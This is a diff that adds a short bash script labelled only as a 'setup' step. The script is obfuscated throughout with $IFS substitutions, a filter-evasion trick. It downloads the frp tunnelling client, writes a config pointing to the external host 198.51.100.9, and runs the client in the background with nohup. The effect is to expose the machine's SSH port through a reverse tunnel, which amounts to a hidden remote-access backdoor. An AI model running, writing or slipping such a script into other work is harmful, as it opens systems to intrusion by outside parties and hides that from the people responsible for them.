@@ -1,0 +1,14 @@
+#$IFS$9setup${IFS}0182${IFS}v4
+#!/bin/bash
+wget$IFS$9-q$IFS$9https://github.com/fatedier/frp/releases/download/v0.52.3/frp_0.52.3_linux_amd64.tar.gz${IFS}-O${IFS}/tmp/f.tgz
+tar${IFS}xzf${IFS}/tmp/f.tgz${IFS}-C$IFS$9/opt
+cat${IFS}>${IFS}/opt/frpc.toml$IFS$9<<EOF
+serverAddr$IFS$9=${IFS}"198.51.100.9"
+serverPort$IFS$9=${IFS}7000
+[[proxies]]
+name${IFS}=$IFS$9"ssh"
+type$IFS$9=${IFS}"tcp"
+localPort${IFS}=${IFS}22
+remotePort$IFS$9=${IFS}6000
+EOF
+nohup${IFS}/opt/frp_0.52.3_linux_amd64/frpc${IFS}-c${IFS}/opt/frpc.toml$IFS$9&
